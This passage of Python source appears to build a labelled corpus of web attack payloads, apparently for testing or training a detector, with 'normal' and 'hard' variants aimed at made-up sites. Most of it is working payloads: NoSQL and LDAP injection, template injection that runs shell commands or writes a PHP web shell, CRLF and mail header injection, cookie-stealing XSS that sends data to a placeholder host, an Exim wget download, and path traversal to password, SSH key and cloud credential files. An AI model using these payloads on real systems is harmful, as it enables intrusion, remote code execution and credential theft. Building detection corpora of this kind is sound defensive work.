    J({"$gte": ""}, uesc="$gte", param="password", ep=EP_NLOGIN),
    J({"$ne": 1}, deep=10, param="status"),
    Q("1;sleep(5000)", param="where"),
    FK("password[$not][$eq]", value="x", ep=EP_NLOGIN),
    FK("token[$regex]", value="^a.*", force="$"),
    J("'; while(true){}; var x='", param="where"),
    J("'}) RETURN n UNION MATCH (n:User) RETURN n//", param="tag"),
    C(b64('{"user":{"$ne":null},"role":"admin"}'), cname="session"),
    C('j:{"$gt":""}', cname="auth", force="ALL"),
    J({"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}, uesc="$"),
    JK("$or", uesc="$", value=[{}, {"x": 1}]),
    QK("q[$where]", value="1", force="[$]"),
    M("email[$regex]", mode="name", value=".*"),
    J({"username": "admin", "$where": "1==1"}, param="query"),
    H('{"$where":"sleep(3000)"}', "X-Filter"),
    Q(", $where: '1 == 1'", param="q"),
]

# =================================================================== ldapi
EP_SSO = ("sso.peoplestack.app", "/login", ["username", "user", "uid"])
LDAP_NORMAL = [
    F("*)(uid=*))(|(uid=*", ep=EP_SSO, form=[("username", MARK), ("password", "anything")]),
    F("admin)(&)", ep=EP_SSO, form=[("username", MARK), ("password", "x")]),
    Q("*)(|(userPassword=*)", param="name"),
    Q("admin)(|(objectClass=*)", param="user"),
    Q("*)(objectClass=*", param="cn"),
    Q("x*)(|(cn=*)", param="q"),
    J("*)(mail=*))(|(mail=*", param="mail"),
    J("admin*)((|userPassword=*)", param="user"),
    Q("*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local", param="group"),
    Q(")(cn=*))(|(cn=*", param="cn"),
    F("*)(uid=*))(&(uid=*", param="login"),
    Q("pa*)(description=*", param="surname"),
    F("admin)(!(&(1=0)", param="user"),
    Q("*)(userPassword=a*", param="name"),
    X("jdoe)(|(uid=*))", param="uid"),
    H("admin)(|(uid=*)", "X-Remote-User"),
    C("*)(ou=*", cname="dir_filter"),
    M("*))(|(objectClass=*", mode="field", param="mail"),
    PA("*)(uid=*", prefix="/directory/users/", safe="*()="),
    Q("*)(|(sAMAccountName=admin*)", param="account"),
    Q("*)(objectCategory=person)(|(cn=*", param="q"),
    J("*))(|(cn=*", param="member"),
    F("admin))(|(uid=*", ep=EP_SSO, param="username"),
    Q("*)(telephoneNumber=*", param="givenName"),
    Q("jsmith)(|(homeDirectory=*)", param="uid"),
    J("*)(&(objectClass=user)(adminCount=1)", param="q"),
    Q("(&(objectClass=*)(uid=*))", param="filter"),
    F("*)(givenName=*))(|(givenName=*", param="name"),
    Q("admin)(mail=*", param="mail"),
    J("x)(|(pwdLastSet=0)", param="user"),
]
LDAP_HARD = [
    Q("*)(cn=*))(|(cn=*", force="ALL", param="cn"),
    Q("admin)(|(objectClass=*))\x00", param="user"),
    J("*)(|(mail=*)", uesc="*()", param="mail"),
    X("*)(sn=*", charref="*()", param="surname"),
    Q("%2A%29%28uid%3D%2A", param="user"),
    H("Basic " + b64("*)(uid=*))(|(uid=*:x"), "Authorization", ep=EP_SSO),
    Q("*)(userAccountControl:1.2.840.113556.1.4.803:=2)", param="account"),
    Q("*)(objectClass=*)(|(cn=*", lower=True, force="*()=|", param="q"),
    J("admin)(|(description=*pass*)", deep=10, param="user"),
    F("admin)(&(objectClass=*)", force="()&*", param="login"),
    C(b64("*)(ou=*))(|(ou=*"), cname="ldap_ctx"),
    M("*)(uid=*)(|(uid=*", mode="field", param="login"),
    Q("*)(!(cn=nobody)", param="cn"),
    J("*)(&(objectClass=*)(|(memberOf:1.2.840.113556.1.4.1941:=cn=Admins,dc=corp,dc=local)", param="group"),
    X("*)(|(uid=*)(cn=*", charref="ALL", param="uid"),
    PA("admin)(|(uid=*", prefix="/api/admin/ldap/users/", force="()|=*"),
    J("*)(|(objectClass=*", uesc="ALL", param="mail"),
    F("*)(|(givenName=a*", lower=True, force="*()|=", param="user"),
    Q("ad\\6d\\69n)(|(uid=*", param="uid"),
    H("*)(|(mail=*@*", "X-Forwarded-User"),
    Q("*)(cn~=admin)(|(cn=*", param="name", plus=True),
]


# =================================================================== ssti
HANDLEBARS = (
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}'
    '{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}'
    "{{this.pop}}{{this.push \"return require('child_process').execSync('%s');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}"
    "{{/with}}{{/with}}{{/with}}{{/with}}"
)
EP_GIFT = ("shop.northwind-outfitters.com", "/gift-card/preview", ["message", "to_name", "greeting"])
EP_TPL = ("app.taskgrid.io", "/api/email-templates/preview", ["body", "subject", "template"])
SSTI_LONG = (
    "Hi team, this is the renewal reminder template we send thirty days before the contract end date. "
    "Please keep the tone friendly and avoid legal language; the account manager's signature is appended "
    "automatically by the system. Remember to include the renewal link and the support phone number. "
    "Dear customer, "
)
SSTI_NORMAL = [
    Q("{{ cycler.__init__.__globals__.os.popen('{C}').read() }}", ep=EP_GIFT, param="message"),
    J(
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('{C}').read() }}",
        ep=EP_TPL,
        param="body",
    ),
    F("{{ config.__class__.__init__.__globals__['os'].popen('{C}').read() }}", ep=EP_GIFT, param="greeting"),
    Q("{{ ''.__class__.__mro__[1].__subclasses__()[407]('{C}',shell=True,stdout=-1).communicate() }}", param="name"),
    J("{{ request.application.__globals__.__builtins__.__import__('os').popen('{C}').read() }}", param="template"),
    Q("{{ lipsum.__globals__['os'].popen('{C}').read() }}", ep=EP_GIFT, param="to_name"),
    Q("{{ config.items() }}", param="title"),
    J("{{['{C}']|filter('system')}}", ep=EP_TPL, param="subject"),
    F('{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("{C}")}}', param="signature"),
    Q("{{['cat /etc/passwd']|map('system')|join}}", param="headline"),
    J('<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("{C}") }', param="content"),
    Q('${"freemarker.template.utility.Execute"?new()("{C}")}', param="message"),
    J(
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
        "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('{C}'))$ex.waitFor()",
        param="template",
    ),
    F("<%= system('{C}') %>", param="reply"),
    Q("<%= `{C}` %>", ep=EP_GIFT, param="greeting"),
    J("<%= File.open('/etc/passwd').read %>", param="footer"),
    J(HANDLEBARS % "{C}", param="text"),
    PA(
        '__${T(java.lang.Runtime).getRuntime().exec("{C}")}__::.x',
        prefix="/doc/",
        safe="_$().:",
        ep=("hr.peoplestack.app", "/doc", ["x"]),
    ),
    Q(
        "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{C}').getInputStream()).next()}__::.x",
        ep=("shop.northwind-outfitters.com", "/fragments", ["section"]),
    ),
    F("{system('{C}')}", param="message"),
    Q(
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
        param="name",
    ),
    J("<% import os; x=os.popen('{C}').read() %>${x}", param="summary"),
    Q('${self.module.cache.util.os.system("{C}")}', param="annotation"),
    F('{% import os %}{{ os.popen("{C}").read() }}', param="body"),
    J("{{ settings.SECRET_KEY }}", param="subject"),
    M(
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('{SC}')}()}",
        mode="field",
        param="template",
    ),
    J("<%= global.process.mainModule.require('child_process').execSync('{C}') %>", param="message"),
    Q(
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{C}')\")()}}",
        param="title",
    ),
    F('@System.Diagnostics.Process.Start("cmd.exe","/c {C}");', param="body"),
    H("{{ cycler.__init__.__globals__.os.popen('{C}').read() }}", "X-Greeting"),
    C("{{ joiner.__init__.__globals__.os.popen('{C}').read() }}", cname="nickname"),
    X("{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('{C}') }}", param="greeting"),
    JK(
        "{{lipsum.__globals__.os.popen('{C}').read()}}",
        doc={"templateId": "tpl_2291", "vars": {MARK: "x", "first_name": "Ana"}},
    ),
    M(
        "<h1>Invoice</h1>\n<p>{{ namespace.__init__.__globals__.os.popen('{C}').read() }}</p>\n",
        mode="file",
        filename="invoice.html.j2",
        fct="text/html",
        field="template",
    ),
]
SSTI_HARD = [
    Q(
        '{{ lipsum|attr("\\x5f\\x5fglobals\\x5f\\x5f")|attr("\\x5f\\x5fgetitem\\x5f\\x5f")("os")|attr("popen")("{C}")|attr("read")() }}',
        ep=EP_GIFT,
        param="message",
    ),
    Q(
        "{{ lipsum|attr(request.args.g)|attr(request.args.gi)(request.args.o)|attr('popen')(request.args.c)|attr('read')() }}",
        ep=EP_GIFT,
        q=[("message", MARK), ("g", "__globals__"), ("gi", "__getitem__"), ("o", "os"), ("c", "{C}")],
    ),
    F("{%print(lipsum.__globals__.os.popen('{C}').read())%}", ep=EP_GIFT, param="greeting"),
    J("{{ lipsum.__globals__['o'~'s'].popen('i'~'d').read() }}", ep=EP_TPL, param="body"),
    Q("{{ cycler['__in'+'it__']['__glo'+'bals__']['os'].popen('{C}').read() }}", param="name"),
    J(
        "{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f')|attr('\\u005f\\u005fbase\\u005f\\u005f')|attr('\\u005f\\u005fsubclasses\\u005f\\u005f')() }}",
        param="template",
    ),
    Q('[#assign ex="freemarker.template.utility.Execute"?new()]${ex("{C}")}', param="message"),
    J(
        '<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>'
        '<#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>'
        '${dwf.newInstance(ec,null)("{C}")}',
        param="content",
    ),
    Q('$class.inspect("java.lang.Runtime").type.getRuntime().exec("{C}").waitFor()', param="subject"),
    J("{{['{C}',0]|sort('passthru')}}", ep=EP_TPL, param="subject"),
    F("{{[0]|reduce('system','{C}')}}", param="signature"),
    Q("{{'/etc/passwd'|file_excerpt(1,30)}}", param="headline"),
    PA(
        "__*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('{C}').getInputStream())}__::.x",
        prefix="/doc/",
        force="ALL",
        ep=("hr.peoplestack.app", "/doc", ["x"]),
    ),
    Q(
        '__${T (java.lang.Runtime).getRuntime().exec("{C}")}__::.x',
        ep=("shop.northwind-outfitters.com", "/fragments", ["lang"]),
    ),
    F("<%= Kernel.public_send('sys'+'tem', '{C}') %>", param="reply"),
    J(HANDLEBARS.replace("execSync('%s')", "exec('curl http://{H}/hb')"), uesc="{}", param="text"),
    X("{{ url_for.__globals__.os.popen('{C}').read() }}", charref="{}_", param="greeting"),
    J("${self.module.runtime.util.os.popen('{C}').read()}", uesc="${}", param="summary"),
    Q("{{ namespace.__init__.__globals__.os.popen('{C}').read() }}", force="ALL", param="title"),
    J("{% set x = cycler.__init__.__globals__ %}{{ x.os.popen('{C}').read() }}", deep=10, param="body"),
    J(SSTI_LONG + "{{ lipsum.__globals__.os.popen('{C}').read() }}", ep=EP_TPL, param="body"),
    Q(
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')"
        "|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('{C}')|attr('read')()}}",
        param="name",
    ),
    C(
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('{C}').read() }}",
        cname="display_name",
        force="{}",
    ),
]

# =================================================================== crlf
EP_REDIR = ("shop.northwind-outfitters.com", "/redirect", ["url", "next", "return"])
CRLF_NORMAL = [
    Q("/\r\nSet-Cookie: sessionid=attacker", ep=EP_REDIR, param="next"),
    Q("\r\nLocation: https://{H}/", ep=EP_REDIR, param="url"),
    Q(
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>",
        ep=EP_REDIR,
        param="return",
    ),
    Q("en\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(document.domain)>", param="lang"),
    Q("\r\nAccess-Control-Allow-Origin: https://{H}\r\nAccess-Control-Allow-Credentials: true", param="r"),
    F(
        "alice\n2024-05-02 10:21:07 INFO  [auth] User admin logged in successfully from 10.0.0.1",
        ep=("online.harborfirst-bank.com", "/login", ["username"]),
        form=[("username", MARK), ("password", "hunter2")],
    ),
    Q("session-key\r\nset injected 0 3600 5\r\npwned", param="session"),
    J("http://backend.internal/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /admin", param="url"),
    H("abc%0d%0aSet-Cookie: x=1", "X-Request-Id"),
    H("https://www.google.com/%0d%0aX-Injected: 1", "Referer"),
    C("en\r\nSet-Cookie: admin=1", cname="lang"),
    PA("\r\nSet-Cookie:crlf=injection", prefix="/", safe=""),
    J("report.pdf\r\nContent-Type: text/html\r\n\r\n<html><script>alert(1)</script></html>", param="filename"),
    F("fr\r\nSet-Cookie: locale=fr; Domain=.lumenhome.store", param="lang"),
    M("q3.csv\r\nX-Injected: yes", mode="field", param="disposition"),
    X("\r\nLocation: javascript:alert(1)", param="returnUrl"),
    QK("\r\nSet-Cookie:a=b", noeq=True, ep=EP_REDIR),
    H("en-US%0d%0aSet-Cookie: lang=x", "Accept-Language"),
    H("Mozilla/5.0%0d%0aX-Forwarded-For: 127.0.0.1", "User-Agent"),
    H("203.0.113.5%0d%0aX-Admin: true", "X-Forwarded-For"),
    H("https://{H}%0d%0aAccess-Control-Allow-Origin: *", "Origin"),
    H("shop.northwind-outfitters.com%0d%0aLocation: https://{H}/", "X-Forwarded-Host"),
    Q(
        "/account\r\nRefresh: 0; url=https://{H}/",
        param="continue",
        ep=("online.harborfirst-bank.com", "/logout", ["x"]),
    ),
    J('user@example.com\r\n127.0.0.1 - admin [02/May/2024:10:21:07 +0000] "GET /admin HTTP/1.1" 200', param="email"),
    Q("\r\n\r\n<html><body>Session expired, <a href=https://{H}/login>log in</a></body></html>", param="ref"),
    F("/home\r\nSet-Cookie: csrftoken=fixed123; Path=/", param="next"),
    H("no-cache%0d%0aSet-Cookie: sid=fixed", "Cache-Control"),
    H("application/json%0d%0aX-Injected: 1", "Accept"),
    C("a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 302 Found\r\nLocation: https://{H}/", cname="return_to"),
    J("INFO\r\n[2024-05-02 10:22:01] ERROR Payment gateway credentials dumped to /tmp/x", param="event"),
    Q("/\nLocation: //{H}", ep=EP_REDIR, param="url"),
]
CRLF_HARD = [
    Q("\u560a\u560dSet-Cookie: crlf=1", ep=EP_REDIR, param="next"),
    Q("%0d%0aSet-Cookie: injected=1", ep=EP_REDIR, param="url"),
    Q("\rSet-Cookie: cr=only", param="r"),
    Q("%u000d%u000aSet-Cookie: iis=1", param="next"),
    Q("\u010d\u010aSet-Cookie: juni=1", ep=EP_REDIR, param="url"),
    H("x%0D%0a%20X-Folded: 1", "X-Correlation-Id"),
    H("abc%E5%98%8A%E5%98%8DSet-Cookie: uni=1", "X-Client-Version"),
    J("report.pdf\r\nSet-Cookie: a=b", uesc="\r\n", upper=True, param="filename"),
    X("\r\nSet-Cookie: xml=1", charref="\r\n", param="returnUrl"),
    C("en%0d%0aSet-Cookie: dbl=1", cname="lang"),
    Q("/x\r\n\tX-Folded: yes", param="next"),
    Q("en\r\nSet-Cookie:\tsid=fixed", param="lang"),
    F("\n\nPOST /api/admin/users HTTP/1.1\nHost: localhost\nContent-Length: 2\n\n{}", param="url"),
    H("%0aSet-Cookie: lf=1", "Referer"),
    PA("%0d%0aSet-Cookie:dbl=1", prefix="/"),
    QK("\r\nX-Injected:qk", noeq=True, force="ALL"),
    J("\r\nSet-Cookie: deep=1", deep=11),
    H("Mozilla/5.0 (X11)%0D%0AX-Forwarded-Host: {H}", "User-Agent"),
    M("name.txt\r\nContent-Type: text/html", mode="filename", content="hello", fct="text/plain"),
    C("a\u560d\u560aSet-Cookie: uc=1", cname="redirect_to"),
]

# =================================================================== mail injection
EP_CONTACT = ("www.lumenhome.store", "/contact.php", ["email", "name", "subject"])
EP_IMAP = ("webmail.quadrant-academy.edu", "/mail/list", ["mailbox"])
MAIL_LONG = (
    "Question about my order from last week: the parcel tracking page has not updated since Tuesday and the "
    "courier hotline keeps sending me back to your support team. Could someone please check with the "
    "warehouse whether it actually left the building, and if not, cancel it and refund to the original card. "
    "Order reference is in the attachment"
)
MAIL_NORMAL = [
    F(
        "victim@example.com\r\nBcc: spam1@{H},spam2@{H}",
        ep=EP_CONTACT,
        form=[("name", "Jo"), ("email", MARK), ("subject", "Hi"), ("message", "Hello there")],
    ),
    F("John\r\nCc: list@{H}", ep=EP_CONTACT, param="name"),
    F(
        'Hello\r\nContent-Type: text/html\r\n\r\n<a href="https://{H}/win">Claim prize</a>',
        ep=EP_CONTACT,
        param="subject",
    ),
    J("attacker@{H}\nBcc: everyone@lumenhome.store", param="requester_email"),
    F('"attacker\\" -oQ/tmp/ -X/var/www/html/cache/shell.php some"@email.com', ep=EP_CONTACT, param="email"),
    J('${run{/bin/sh -c "{C}"}}@localhost', param="email"),
    F("x@y.com>\r\nRCPT TO:<victim@corp.example>\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\n", param="from"),
    Q("INBOX\r\nA0003 DELETE INBOX", ep=EP_IMAP, param="mailbox"),
    Q('INBOX.Sent\r\nA004 COPY 1:* "Trash"', ep=EP_IMAP, param="mailbox"),
    F("someone@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php", param="from"),
    F("attacker@evil.com\nContent-Type: multipart/mixed; boundary=xyz", param="reply_to"),
    J("Friend\r\nBcc: a@{H}", param="sender_name"),
    M("support request\r\nBcc: harvest@{H}", mode="field", param="subject"),
    X("bob@example.com\r\nCc: carol@{H}", param="to"),
    F("Newsletter\r\nReply-To: phish@{H}", param="subject"),
    J("alice@example.com,\r\nTo: all-staff@corp.example", param="to"),
    F("me@example.com\r\nX-Mailer: MassMail\r\nBcc: list1@{H}", ep=EP_CONTACT, param="email"),
    H("noreply@example.com%0d%0aBcc: leak@{H}", "X-Reply-To"),
    C("jane@example.com\r\nBcc: c@{H}", cname="last_email"),
    Q("user@example.com\r\nSubject: Password reset\r\n\r\nClick https://{H}/reset", param="to"),
    F('"Eve" <eve@{H}>\r\nSender: ceo@corp.example', param="from"),
    J("x\r\nA002 FETCH 1:* (BODY[])", param="mailbox", ep=EP_IMAP),
    F(
        "test@example.com\r\n\r\n.\r\nMAIL FROM:<ceo@corp.example>\r\nRCPT TO:<victim@corp.example>\r\nDATA\r\n"
        "Subject: Urgent wire\r\n\r\nPlease wire funds.\r\n.\r\n",
        param="email",
        ep=EP_CONTACT,
    ),
    J('"x\\" -X/var/www/html/s.php -OQueueDirectory=/tmp "@example.com', param="email"),
    F("${run{/usr/bin/wget http://{H}/e -O /tmp/e}}@example.com", param="email"),
    Q(
        "team@example.com\r\nCC: boss@corp.example\r\nBCC: dump@{H}",
        param="cc",
        ep=("api.helpdeskly.com", "/v1/tickets", ["x"]),
    ),
    M("Jane Doe\r\nTo: everyone@quadrant-academy.edu", mode="field", param="display_name"),
    J("Invite\nBcc: x1@{H}, x2@{H}, x3@{H}", param="subject"),
    F("hello\r\nContent-Transfer-Encoding: base64\r\n\r\nPGh0bWw+PC9odG1sPg==", param="subject"),
    QK("to=a@example.com\r\nBcc: qk@{H}", noeq=True, ep=("shop.northwind-outfitters.com", "/share/email", ["x"])),
]
MAIL_HARD = [
    F("victim@example.com%0ABcc:x@{H}", ep=EP_CONTACT, param="email"),
    J("x@example.com\r\nBcc: y@{H}", uesc="\r\n", param="requester_email"),
    F("user@example.com\nbCC: z@{H}", param="email"),
    F("user@example.com\rBcc: cr@{H}", param="reply_to"),
    F("Hi\u0085Bcc: nel@{H}", param="subject"),
    X("bob@example.com\r\nBcc: xml@{H}", charref="\r\n", param="to"),
    J('"a\\" -oQ/tmp -X/var/www/html/x.php z"@example.com', deep=10, param="email"),
    F('"attacker\\\' -oQ/tmp/ -X/var/www/cache/phpcode.php some"@email.com', param="from"),
    Q("INBOX%0d%0aA0003 DELETE INBOX", ep=EP_IMAP, param="mailbox"),
    J("${run{\\x2fbin\\x2fsh\\t-c\\t\\x22id\\x22}}@localhost", param="email"),
    C(b64("x@example.com\r\nBcc: b64@dl.update-check.xyz"), cname="share_to"),
    M("invoice.pdf\r\nBcc: fn@{H}", mode="filename", content="%PDF-1.4", fct="application/pdf"),
    Q("victim@example.org\r\nbcc:low@{H}", force="ALL", param="to"),
    J(MAIL_LONG + "\r\nBcc: long@{H}", param="subject"),
    F("me@example.com%0D%0ACc: dbl@{H}", param="reply_to"),
    H("ops@example.com%0ACc: h@{H}", "X-Notify-Email"),
    J("Drafts\r\nA9 DELETE Sent", uesc="\r\n", param="mailbox", ep=EP_IMAP),
    F("user@example.com\r\nBcc:\x20x@{H}", lower=True, force="@:", param="email"),
    Q("someone@example.com\r\n\r\n.\r\nQUIT", param="to"),
    F('"x -X/var/www/html/s.php"@example.com', param="from"),
]


# =================================================================== xss
EP_SEARCH = ("shop.northwind-outfitters.com", "/search", ["q", "query", "term"])
EP_WIDGET = ("api.helpdeskly.com", "/v1/widget/init", ["callback", "greeting", "returnUrl"])
XSS_LONG = (
    "Really happy with the jacket overall. The sizing runs a little small so order one size up if you are "
    "between sizes; the zips feel sturdy and the hood actually stays on in wind. Colour is slightly darker "
    "than the photos. Delivery took four days to Leeds. Would buy again, five stars from me and my partner. "
)
XSS_NORMAL = [
    Q("<script>alert(document.cookie)</script>", ep=EP_SEARCH, param="q"),
    Q('"><img src=x onerror=alert(1)>', ep=EP_SEARCH, param="term"),
    J("<svg/onload=fetch('//{H}/?c='+document.cookie)>", param="text"),
    Q("javascript:alert(document.domain)", ep=EP_WIDGET, param="returnUrl"),
    Q("'-alert(1)-'", ep=EP_WIDGET, param="callback"),
    Q("</title><script>alert(1)</script>", ep=EP_SEARCH, param="query"),
    J('<iframe srcdoc="<script>parent.alert(document.domain)</script>"></iframe>', param="description"),
    F("<body onload=alert(1)>", param="review"),
    F("<details open ontoggle=alert(1)>", param="nickname"),
    J('<a href="javascript:void(0)" onmouseover=alert(1)>hover</a>', param="bio"),
    Q("<input autofocus onfocus=alert(1)>", ep=EP_SEARCH, param="query"),
    F("<marquee onstart=alert(1)>", param="headline"),
    J("<video><source onerror=alert(1)></video>", param="body"),
    J(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        param="text",
    ),
    J('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', param="description"),
    Q("{{constructor.constructor('alert(1)')()}}", ep=EP_SEARCH, param="q"),
    J('<object data="data:text/html;base64,' + b64("<script>alert(1)</script>") + '"></object>', param="bio"),
    Q("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", param="term"),
    F("<form><button formaction=javascript:alert(1)>Continue</button></form>", param="review"),
    J("<style>@import'//{H}/x.css'</style>", param="description"),
    Q('" autofocus onfocus="alert(1)', ep=EP_SEARCH, param="q"),
    F("<embed src=javascript:alert(1)>", param="website"),
    J("<img src=1 onerror=import('//{H}/x.js')>", param="displayName"),
    J("[click here](javascript:alert(document.cookie))", param="body"),
    M(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
        mode="file",
        filename="logo.svg",
        fct="image/svg+xml",
        field="logo",
    ),
    M("<img src=x onerror=alert(1)>.png", mode="filename", fct="image/png", content="PNG"),
    H("<script>alert('ua')</script>", "User-Agent"),
    H('https://{H}/"><script>alert(1)</script>', "Referer"),
    C("<script>alert(document.domain)</script>", cname="username"),
    X("<img src=x onerror=prompt(document.domain)>", param="comment"),
    PA("<script>alert(1)</script>", prefix="/search/", safe=""),
    QK('"><svg onload=alert(1)>', noeq=True, ep=EP_SEARCH),
    JK("<img src=x onerror=alert(1)>", value="on"),
]
XSS_HARD = [
    Q("<sCrIpT>alert(1)</ScRiPt>", ep=EP_SEARCH, param="q"),
    Q("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", param="term"),
    J("<svg><script>&#x61;lert(document.domain)</script></svg>", param="text"),
    Q('<a href="jav&#x09;ascript:alert(1)">x</a>', param="query"),
    Q('<a href="&#106;avascript:alert(1)">x</a>', ep=EP_WIDGET, param="greeting"),
    J("<img src=x onerror=\\u0061lert(1)>", param="bio"),
    Q("<svg onload=eval(atob('" + b64("alert(document.cookie)") + "'))>", param="q"),
    Q("<img src=x onerror=top[/al/.source+/ert/.source](1)>", param="term"),
    Q("<img/src/onerror=alert`1`>", ep=EP_SEARCH, param="query"),
    Q("<svg onload=alert&lpar;1&rpar;>", param="q"),
    Q("%3Cscript%3Ealert(1)%3C/script%3E", ep=EP_SEARCH, param="q"),
    Q("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", param="term"),
    F("<scr<script>ipt>alert(1)</scr</script>ipt>", param="review"),
    J("<img src=x onerror=\"window['al'+'ert'](document.domain)\">", param="displayName"),
    Q('<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">', param="query"),
    F("<x onclick=alert(1)>click me</x>", param="nickname"),
    Q(
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        ep=EP_WIDGET,
        param="returnUrl",
    ),
    J("<script>fetch('//{H}/'+document.cookie)</script>", uesc="<>/", param="text"),
    X("<svg onload=alert(1)>", charref="<>=", param="comment"),
    Q("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", param="q"),
    Q('<a href="java\tscript:alert(1)">tab</a>', param="term"),
    F(
        "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
        param="headline",
    ),
    J("<img src=x onerror=confirm(1)>", deep=10, param="bio"),
    J(XSS_LONG + "<img src=x onerror=alert(document.cookie)>", param="review"),
]

# =================================================================== path traversal
EP_ATT = ("app.taskgrid.io", "/api/attachments/download", ["file", "path", "name"])
EP_IMG = ("shop.northwind-outfitters.com", "/static/image", ["img", "src", "f"])
PT_NORMAL = [
    Q("../../../../etc/passwd", ep=EP_ATT, param="file"),
    Q("..\\..\\..\\windows\\win.ini", ep=EP_ATT, param="path"),
    Q("/etc/passwd", ep=EP_IMG, param="img"),
    Q("....//....//....//etc/passwd", ep=EP_IMG, param="src"),
    Q("../../../../proc/self/environ", param="log"),
    Q("../../WEB-INF/web.xml", param="template"),
    Q("../../../../var/log/nginx/access.log", param="page"),
    J("../config/database.yml", param="path"),
    Q("../../.env", ep=EP_IMG, param="f"),
    Q("../../../../home/ubuntu/.ssh/id_rsa", param="doc"),
    Q(
        "php://filter/convert.base64-encode/resource=../config.php",
        ep=("www.lumenhome.store", "/index.php", ["x"]),
        param="page",
    ),
    Q("/proc/self/cwd/app.py", param="file"),
    PA("..;/..;/WEB-INF/web.xml", prefix="/app/", safe="/;"),
    PA("../../../../../etc/passwd", prefix="/static/", safe="/"),
    M("../../../var/www/html/s.php", mode="filename", content="GIF89a", fct="image/gif"),
    J("../../../../root/.aws/credentials", param="file"),
    C("../../../../etc/shadow", cname="template"),
    H("../../../../../etc/group", "Accept-Language"),
    X("../../../etc/hosts", param="file"),
    F("../../../../var/www/app/config/settings.py", param="layout"),
    Q("C:\\Windows\\System32\\drivers\\etc\\hosts", param="file"),
    Q("..\\..\\..\\..\\boot.ini", param="doc"),
    J("/var/lib/mysql/mysql/user.MYD", param="path"),
    Q("file:///etc/passwd", param="resource"),
    Q("../../../../../../../../../../etc/passwd", ep=EP_IMG, param="img"),
    Q("../../../../usr/local/tomcat/conf/tomcat-users.xml", param="tpl"),
    F("../../../../opt/app/.git/config", param="resource"),
    J("..\\..\\..\\inetpub\\wwwroot\\web.config", param="filename"),
    M("../../../app/config/secrets.yml", mode="field", param="template"),
    Q("/../../../../etc/passwd", param="layout"),
]
PT_HARD = [
    Q("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", ep=EP_ATT, param="file"),
    Q("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", param="doc"),
    Q("..%c0%af..%c0%af..%c0%afwindows/win.ini", param="file"),
    Q("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", param="path"),
    PA("..\\..\\..\\..\\windows\\system.ini", prefix="/files/", force="\\"),
    PA("../../../etc/passwd", prefix="/assets/", safe="/", force="."),
    Q("../../../../etc/passwd\x00.jpg", ep=EP_IMG, param="img"),
    Q("..././..././..././etc/passwd", param="template"),
    Q("..//..//..//etc//passwd", param="log"),
    Q("\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", param="file"),
    Q("/var/www/images/../../../etc/passwd", ep=EP_IMG, param="img"),
    Q("\\\\?\\C:\\Windows\\win.ini", param="doc"),
    Q("../..\\../..\\../etc/passwd", param="path"),
    J("../../../../../../../etc/passwd", uesc="./", param="file"),
    X("../../../../etc/issue", charref="./", param="file"),
    PA("..%2f..%2f..%2fetc%2fpasswd", prefix="/download/", safe="/"),
    PA("../etc/passwd", prefix="/assets", safe="/"),
    PA("..;/manager/html", prefix="/app/", safe="/;"),
    C("..%2F..%2F..%2Fetc%2Fpasswd", cname="theme"),
    J("../../../../proc/1/environ", deep=10, param="path"),
